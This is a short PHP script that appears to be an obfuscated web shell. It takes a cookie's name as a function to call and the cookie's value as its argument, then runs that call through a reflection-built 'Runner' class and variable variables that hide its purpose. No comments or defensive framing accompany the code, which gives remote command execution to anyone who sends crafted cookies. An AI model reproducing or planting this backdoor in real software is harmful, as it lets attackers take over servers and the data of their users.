<?php
class Runner {
	public function __construct($fn, $arg) {
		$fn($arg);
	}
}
$rc = new ReflectionClass('Runner');
foreach (array('_COOKIE') as $src) {
	foreach ($$src as $name => $val) {
		for ($i = 0; $i < 1; $i++) {
			${'v' . $i} = $name;
		}
	}
}
$rc->newInstance($v0, $val);
